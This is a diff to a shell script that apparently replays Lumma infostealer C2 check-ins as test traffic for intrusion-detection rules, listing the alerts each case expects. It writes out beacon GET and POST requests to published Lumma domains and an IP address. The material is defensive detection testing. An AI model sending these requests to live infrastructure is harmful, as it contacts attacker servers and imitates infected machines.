@@ -60,11 +60,22 @@ if wants v6-split; then
   note "Lumma 6: three bytes per segment" "the configuration request in three-byte segments" "tools/capture/raw.py, server.py ($PY_V)" "lumma.v6-config once" "-"
 fi
 if wants gate-2026; then
+  right_ip 153.92.1.49
+  G='http://whitepepper.su/api/set_agent?id=0123456789abcdef0123456789abcdef&token=00112233445566778899aabbccddeeff&act=log'
   begin gate-2026
-  c2 -A "$NEW" "$C2/api/set_agent?id=0123456789abcdef0123456789abcdef&token=00112233445566778899aabbccddeeff&act=log"
-  c2 -A "$NEW" -H "$FORM" --data 'screen=1920x1080&lang=en-US&inert=1' "$C2/api/set_agent?id=0123456789abcdef0123456789abcdef&token=00112233445566778899aabbccddeeff&act=log"
+  web --resolve whitepepper.su:80:153.92.1.49 -A "$NEW" "$G"
+  web --resolve whitepepper.su:80:153.92.1.49 -A "$NEW" -H "$FORM" --data 'screen=1920x1080&lang=en-US&inert=1' "$G"
   end 2026-01-27T12:00:00Z
-  note "Lumma: the profiling gate of 2026" "GET and POST of /api/set_agent with id, token and act=log" "$SPOKE" "lumma.gate-2026 twice" "-"
+  note "Lumma: the profiling gate of 2026" "GET and POST of /api/set_agent with id, token and act=log, on the published name and address" "$SPOKE" \
+    "lumma.gate-2026 twice, lumma.name-http twice, lumma.known-address once" "-"
+fi
+if wants names-http; then
+  begin names-http
+  web --resolve xurekodip.com:80:$RIGHT -A "$NEW" http://xurekodip.com/qpdl
+  web --resolve xurekodip.com.example.org:80:$RIGHT -A "$NEW" "http://xurekodip.com.example.org/?u=xurekodip.com"
+  end 2025-08-01T10:00:00Z
+  note "Lumma: names in clear HTTP" "a published name, then a near name with the published one in its query" "$SPOKE" \
+    "lumma.name-http once" "anything for the second request"
 fi
 if wants near; then
   begin near
